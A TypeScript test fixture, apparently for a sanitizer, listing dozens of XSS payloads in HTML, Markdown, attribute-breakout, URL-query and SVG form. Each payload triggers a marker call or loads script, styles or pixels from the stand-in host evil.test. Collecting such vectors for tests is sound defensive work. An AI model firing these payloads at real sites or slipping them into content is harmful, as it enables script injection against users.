/**
 * What an attacker, or a page that someone pasted, may bring into a library. Whatever of it runs calls `hit`, asks `evil.test` for something,
 * or changes the page's title. `⚡` stands for the call.
 */
const RUN = 'hit()';

const MARKUP = [
  '<script>⚡</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<script/x>⚡</script>',
  '<scr<script>ipt>⚡</script>',
  '<img src=x onerror=⚡>',
  '<img src="x" onerror="⚡">',
  '<img/src/onerror=⚡>',
  '<IMG """><SCRIPT>⚡</SCRIPT>">',
  '<img src=https://evil.test/pixel.png>',
  '<svg onload=⚡>',
  '<svg><script>⚡</script></svg>',
  '<svg><animate onbegin=⚡ attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>⚡</script></svg>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=⚡></style></mglyph></table></mtext></math>',
  '<math><mi><a xlink:href="javascript:⚡">x</a></mi></math>',
  '<iframe src="javascript:⚡"></iframe>',
  '<iframe srcdoc="<script>parent.⚡</script>"></iframe>',
  '<iframe src=//evil.test/></iframe>',
  '<object data="javascript:⚡"></object>',
  '<embed src="//evil.test/x.swf">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css";*{background:url(https://evil.test/y)}</style>',
  '<style>*{x:expression(⚡)}</style>',
  '<p style="background:url(https://evil.test/z)">x</p>',
  '<body onload=⚡>',
  '<input autofocus onfocus=⚡>',
  '<details open ontoggle=⚡>x</details>',
  '<video><source onerror=⚡></video>',
  '<audio src=x onerror=⚡></audio>',
  '<marquee onstart=⚡>x</marquee>',
  '<form action="javascript:⚡"><button>x</button></form>',
  '<button formaction="javascript:⚡">x</button>',
  '<a href="javascript:⚡">x</a>',
  '<a href="data:text/html,<script>⚡</script>">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=⚡>"></noscript>',
  '<template><img src=x onerror=⚡></template>',
  '<xmp><img src=x onerror=⚡></xmp>',
  '<textarea></textarea><img src=x onerror=⚡>',
  '<title></title><script>⚡</script>',
  '<!--><img src=x onerror=⚡>-->',
  '<!-- --!><img src=x onerror=⚡> -->',
  '<![CDATA[><img src=x onerror=⚡>]]>',
  '<?xml-stylesheet href="javascript:⚡"?><img src=x onerror=⚡>',
  '</p></div></main></body><script>⚡</script>',
  '<a\t href="java\tscript:⚡" onclick=⚡ id=x tabindex=1 autofocus onfocus=⚡>x</a>',
  '＜script＞⚡＜/script＞',
  '&lt;script&gt;⚡&lt;/script&gt;',
  '&#60;img src=x onerror=⚡&#62;',
  '<x onmouseover=⚡ style="position:fixed;inset:0">x</x>',
];

const MARKDOWN = [
  '[x](javascript:⚡)',
  '[x](JaVaScRiPt:⚡)',
  '[x](java\tscript:⚡)',
  '[x](<java\nscript:⚡>)',
  '[x](&#106;avascript:⚡)',
  '[x](&#x6A;&#x61;vascript&colon;⚡)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>⚡</script>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.test/1)',
  '<javascript:⚡>',
  '<data:text/html,x>',
  '[x][1]\n\n[1]: javascript:⚡ "t"',
  '[x](/ "\\" onmouseover=\\"⚡")',
  '[x](/ \'" autofocus onfocus=⚡ x="\')',
  '![x](javascript:⚡)',
  '![x](https://evil.test/pixel.png)',
  '![x](//evil.test/pixel.png)',
  '![" onerror="⚡](https://evil.test/a.png)',
  '[![x](https://evil.test/b.png)](javascript:⚡)',
  'https://evil.test/"onmouseover="⚡',
  'www.evil.test/<script>⚡</script>',
  'a@evil.test"onmouseover="⚡',
  '`<script>⚡</script>`',
  '```html"><script>⚡</script>\n<script>⚡</script>\n```',
  '    <script>⚡</script>',
  '| <img src=x onerror=⚡> | b |\n| --- | --- |\n| <script>⚡</script> | [x](javascript:⚡) |',
  '正文[^1]\n\n[^1]: <img src=x onerror=⚡> [x](javascript:⚡)',
  '正文[^"><svg/onload=⚡>]\n\n[^"><svg/onload=⚡>]: 注',
  '# <img src=x onerror=⚡>\n\n## [x](javascript:⚡)',
  '一、<script>⚡</script>',
  '- [x] <img src=x onerror=⚡>\n- <svg/onload=⚡>',
  '> <script>⚡</script>',
  '**<img src=x onerror=⚡>**_<svg onload=⚡>_~~<script>⚡</script>~~',
  '{alert(1)}{{constructor.constructor("⚡")()}}${⚡}<%= ⚡ %>',
];

const called = (texts: readonly string[]) => texts.map((text) => text.replaceAll('⚡', RUN));

/** Bodies of entries, each a vector of its own. */
export const HOSTILE_BODIES: readonly string[] = called([...MARKUP, ...MARKDOWN]);

/** Words that break out of an attribute, an element, a script block or a piece of JSON; for fields, cells and addresses. */
export const HOSTILE_WORDS: readonly string[] = called([
  '"><img src=x onerror=⚡>',
  "'><svg onload=⚡>",
  '</script><script>⚡</script>',
  '<!--<script>⚡//',
  '</title></style></textarea><script>⚡</script>',
  '" autofocus onfocus="⚡" x="',
  '&quot;&gt;&lt;img src=x onerror=⚡&gt;',
  '\\u003cimg src=x onerror=⚡\\u003e',
  '"}]}</script><img src=x onerror=⚡>',
]);

/** Values of addresses that a reader may be lured to, behind the path of a page. */
export const HOSTILE_QUERIES: readonly string[] = [
  `search/?q=${encodeURIComponent(`"><img src=x onerror=${RUN}>`)}`,
  `search/?q=${encodeURIComponent('学习')}&speaker=${encodeURIComponent(`<svg onload=${RUN}>`)}&year=<script>${RUN}</script>`,
  `search/?q=x#<img src=x onerror=${RUN}>`,
  `texts/hostile-0/?mark=${encodeURIComponent(`<img src=x onerror=${RUN}>`)}`,
  `texts/hostile-0/#p1"onmouseover="${RUN}`,
  `texts/hostile-0/#javascript:${RUN}`,
  `404.html?<script>${RUN}</script>`,
];

/** Drawings that would run script, or ask another host, when opened by their own address. */
export const HOSTILE_DRAWINGS: readonly string[] = called(
  [
    '<script>⚡</script>',
    '<script href="https://evil.test/x.js"/>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">⚡</x:script>',
    '<g onload="⚡"/>',
    '<rect width="9" height="9" onclick = "⚡"/>',
    '<a href="javascript:⚡"><text>x</text></a>',
    '<a href="&#106;ava&#x09;script:⚡"><text>x</text></a>',
    '<animate attributeName="href" to="x"/>',
    '<set attributeName="onmouseover" to="⚡"/>',
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//evil.test/"/></foreignObject>',
    '<image href="https://evil.test/a.png"/>',
    '<style>@import url(//evil.test/a.css);</style>',
    '<rect fill="url(https://evil.test/a.svg#x)"/>',
    '<use href="//evil.test/a.svg#x"/>',
  ].map((inner) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onx="">\n${inner}\n</svg>`.replace(' onx=""', ''),
  ),
);
